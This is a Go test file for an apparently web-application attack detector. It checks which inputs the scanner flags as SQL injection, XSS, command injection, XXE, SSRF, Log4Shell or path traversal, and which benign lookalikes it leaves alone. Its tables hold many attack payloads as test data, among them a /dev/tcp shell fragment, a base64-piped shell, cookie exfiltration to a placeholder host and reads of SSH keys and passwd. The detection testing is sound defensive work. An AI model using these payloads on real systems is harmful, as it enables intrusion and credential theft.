package detect

import "testing"

// TestWholePlaces holds what depends on more than the value.
func TestWholePlaces(t *testing.T) {
	f := func(v string, w Where, want Class) {
		t.Helper()
		var s Scanner
		got := NoClass
		best := float32(evident)
		for _, f := range s.Scan([]byte(v), &w) {
			if f.Weight >= best {
				got, best = f.Class, f.Weight
			}
		}
		if got != want {
			t.Errorf("%q at %+v is %v, want %v", v, w, got, want)
		}
	}
	table := []byte("sql_table")
	f("information_schema", Where{Place: InBody, Container: true}, SQLi)
	f("northwind", Where{Place: InBody, Container: true}, SQLi)
	f("northwind", Where{Place: InBody}, NoClass)
	f("pg_catalog", Where{Place: InQuery, Key: table}, SQLi)
	f("pg_catalog", Where{Place: InQuery, Key: []byte("ns")}, NoClass)
	f("sqlite_master", Where{Place: InQuery, Key: []byte("table")}, NoClass)
	f("sqlite_master", Where{Place: InBody, Container: true}, SQLi)
	f("northwind", Where{Place: InQuery, Key: table}, NoClass)
	f("ansible-config dump\n", Where{Place: InForm}, RCE)
	f("ansible-config dump\r\n", Where{Place: InForm}, NoClass)
	f("ansible-config dump", Where{Place: InForm}, NoClass)
	f("Axel Smith\n", Where{Place: InForm}, NoClass)
	f("FILE\r\n()", Where{Place: InQuery}, Code)
	f("/bin/ab", Where{Place: InForm, Key: []byte("cmd")}, RCE)
	f("/bin/ab", Where{Place: InForm, Key: []byte("shell")}, NoClass)
	f("/bin/bash", Where{Place: InForm, Key: []byte("loginShell")}, NoClass)
	f("window.location", Where{Place: InForm}, XSS)
	f("window.location", Where{Place: InQuery, Name: true}, XSS)
	f("$_COOKIE", Where{Place: InQuery, Name: true}, Code)
	f("$_STATE", Where{Place: InQuery, Name: true}, NoClass)
	f("  onabc= x", Where{Place: InQuery, Name: true}, XSS)
	f("process[name]", Where{Place: InForm, Name: true}, NoClass)
	f("com.sun.rowset.JdbcRowSetImpl", Where{Place: InXML, Name: true}, Code)
	f("org.apache.commons.collections.functors.InvokerTransformer", Where{Place: InXML, Name: true}, Code)
	f("java.lang.ProcessBuilder", Where{Place: InXML, Name: true}, NoClass) // does nothing before start is called
	f("java.lang.ProcessBuilder", Where{Place: InXML}, Code)
	f("java.lang.Runtime", Where{Place: InQuery, Name: true}, Code)
	f("ProcessBuilder.start.x", Where{Place: InXML, Name: true}, NoClass)
	f("java.Runtime", Where{Place: InXML, Name: true}, NoClass)
	f(".boto", Where{Place: InHeader, Key: []byte("X-FILENAME")}, Upload)
	f(".gitignore", Where{Place: InHeader, Key: []byte("X-FILENAME")}, NoClass)
	f("wp-config.bak", Where{Place: InFileName}, NoClass)
	f("utf-", Where{Place: InForm, Key: []byte("_charset_")}, Smuggling)
	f("UTF-8", Where{Place: InForm, Key: []byte("_charset_")}, NoClass)
	f("foo!ENTITY % bar SYSTEM", Where{Place: InUserAgent}, XXE)
	f("xGET /a HTTP/1.1\r\nX: GET /b", Where{Place: InBody}, CRLF)
	f("Use GET /a HTTP/1.1 for that\n", Where{Place: InBody}, NoClass)
	f("https://h.example", Where{Place: InQuery, Key: []byte("path"), Parent: []byte("_CONF")}, RFI)
	f("https://h.example", Where{Place: InQuery, Key: []byte("path"), Parent: []byte("conf")}, NoClass)
	f("<style>a</style>", Where{Place: InCookie}, XSS)
	f("ja&tab;vascript: a", Where{Place: InForm}, XSS)
}

func TestWhole(t *testing.T) {
	found := func(v string, w Where) (c Class) {
		var s Scanner
		best := float32(evident)
		for _, f := range s.Scan([]byte(v), &w) {
			if f.Weight >= best {
				c, best = f.Class, f.Weight
			}
		}
		return c
	}
	for v, want := range map[string]Class{
		"document /* a */ . cookie":                    XSS,
		`index/\think\app/invokefunction`:              Code,
		`home/\Acme\Db\Query/run`:                      Code,
		`"onzoom=`:                                     XSS,
		"setInterval(code, 1)":                         XSS,
		"a <f o r m":                                   XSS,
		"[].sort.call`${alert}1`":                      XSS,
		`<a b:schemaLocation="c http://h/a.xsd">x</a>`: XXE,
		"console.info(1)":                              Code,
		"$$b(2)":                                       Code,
		"define('x','sys');(x)('id');":                 Code,
		"base64_decode(":                               Code,
		"$3:constructor:constructor":                   PrototypePollution,
		"$7:Module:prototype":                          PrototypePollution,
		"cd /;cd etc;fold passwd":                      RCE,
		"{,ifconfig,eth0}":                             RCE,
		";irb<<<1+2":                                   RCE,
		"process.exit(0)":                              Code,
		`os.execute("id")`:                             Code,
		"open('|id').read":                             Code,
		"print `id`;":                                  Code,
		"%x(id)":                                       Code,
		"include 'http://h/a'":                         Code,
		"(sy.(st).em)(id)":                             Code,
		"import('//h/a')":                              XSS,
		`Function("a")()`:                              XSS,
		"fetch('//h/?'+document.cookie)":               XSS,
		"http:127.0.0.1":                               SSRF,
		"document.body.a('b').c = 1":                   XSS,
		"(document)['cookie']":                         XSS,
		"self /* a */ ['alert']('b')":                  XSS,
		"(![]+[])[+!+[]]":                              XSS,
		"<x:y src=":                                    XSS,
		"<a / b href / =":                              XSS,
		`<meta charset="utf-7">`:                       XSS,
		`<input pattern="^a$">`:                        XSS,
		"process[req.query.a":                          Code,
		"return'system'('id')":                         Code,
		"( string ) {[system][0]} ('id')":              Code,
		"[system][0](ls);":                             Code,
		"$x = 'a'.'b';($x)('id');":                     Code,
		"gzinflate/* a */()":                           Code,
		"while(new Date);":                             Code,
		"while(!0)x()":                                 Code,
		"c{a,oun}t":                                    RCE,
		"{l,-lh}s":                                     RCE,
		"{,id}":                                        RCE,
		"~+":                                           RCE,
		"~-3":                                          RCE,
		"!-1!-2":                                       RCE,
		"/[e//]tc":                                     RCE,
		"cat /et[c]x":                                  RCE,
		"${PATH#{}/}":                                  RCE,
		"$[]":                                          RCE,
		">/tmp/x":                                      RCE,
		"d=/dev;(sh)0>$d/tcp/h":                        RCE,
		"$SHELL -c 'x'":                                RCE,
		"ksh -c \"curl h\"":                            RCE,
		"powershell C:\\x\\y.exe":                      RCE,
		"alias +m a=b":                                 RCE,
		"cat /etc/subuid":                              RCE,
		"bin/visudo":                                   RCE,
		"; knife x; chef-client -z":                    RCE,
		"a=b;ansible-console":                          RCE,
		"printf YQ==|base64 -d|sh":                     RCE,
		"x&bcdboot/r c:\\a":                            RCE,
		"if a==b foo":                                  RCE,
		"if not {%1} == {} x":                          RCE,
		"IF CMDEXTVERSION 1 GOTO a":                    RCE,
		".ssh/id_rsa":                                  PathTraversal,
		"/srv/x/.docker/secrets":                       PathTraversal,
		"db.sql.gz":                                    PathTraversal,
		"/sys/class":                                   PathTraversal,
		"[$lte]x":                                      NoSQLi,
		"__js_function":                                Deserialization,
		"!ENTITY % a SYSTEM":                           XXE,
		"'{\"a\":[1]}' < '$.a' = 7":                    SQLi,
		"select a from b where c=d/**/(1)":             SQLi,
		"div(23, -2)":                                  SQLi,
		"insert(":                                      SQLi,
		"select iif(1 > 1, 'a', 'b')":                  SQLi,
		"create function f (a int) returns int return a": SQLi,
		"http:169.254.169.254":                           SSRF,
		"ip6-loopback/":                                  SSRF,
		"$&lbrace;jndi:ldap://h/a}":                      Log4Shell,
		"sleep(20)":                                      SQLi,
		"SELECT group_concat(":                           SQLi,
		"admin@example.com';":                            SQLi,
		"` AS `a` from":                                  SQLi,
		", find_in_set('2', category )":                  SQLi,
		"9 or /*+ hint */ true":                          SQLi,
	} {
		if got := found(v, Where{Place: InQuery}); got != want {
			t.Errorf("%q is %v, want %v", v, got, want)
		}
	}
	for _, v := range []string{
		`a/\b`, `1/\frac/2`, `a/\b\c`, `x /\a\b/c`, `\\host\share/a`,
		"", "<", "$", "A", "sleep", "sleep well (20)", "documents.cookies", "the document.cookie property", "${name}", "$ 5",
		"{a,b}", "a{b,c}d", "select a from b", "a <b c d", "don't", "case when x then y", "if (a", "prototype", "$1:a", "cat /home", "cd build; make",
		"ls foo bar", "require less", "(a)(b)", "[a](b)", "function", "new function", "process", "data: 5 < 6", "https://h/a:b",
		"print('a'); next('b');", "process exit (1)", "open('a')", "include 'a'", "see document.cookie at https://h",
		"os.path.join(a)", "(e.g. (a))", "function(a)", "echo `a",
		// what resembles the constructs
		"{id,name}", "items{id,name}", "*.{js,ts}", "test{,s}", "~1", "~-x", "!important", "/[slug]/about", "/blog/[year]-[month]", "/html/body/div[2]/p[1]",
		"${CLICK_ID}", "${x:default}", "> /usr/bin/python not found", "a=b;c=d", "python;django", "vim;emacs", "d=/a; e=/b",
		"$$f(x) = x^2$$", "![](", "![]()", "[]", "<? why not", "http:80", "http:8080:80", "1.e.g.", "[$10] off", "[$x]", "<3 a=b",
		"cats /etc", "reader /etc/passw", "path/bin/consul", "bin/console", "if a==b then x", "if a==b:", "while(!true);", "while(false);",
		"window.location", "location.href", "self.assertEqual(a, b)", "information_schema", "tempdb", "Northwind", ".gitignore", ".github/workflows/x.yml",
		".docker/nginx.conf", "insert (", "create function f(a int)", "report.sql", "function/**/", "call f /* x */ (y)", "$ {}", "$ 5 {a}",
	} {
		if got := found(v, Where{Place: InQuery}); got != NoClass {
			t.Errorf("%q is %v, want nothing", v, got)
		}
	}
	for _, p := range []Place{InJSON, InBody, InFile, InPath} {
		if got := found("console.info(1)", Where{Place: p}); p != InPath && p != InJSON && got != NoClass {
			t.Errorf("a quotation at %v is %v, want nothing", p, got)
		}
	}
}
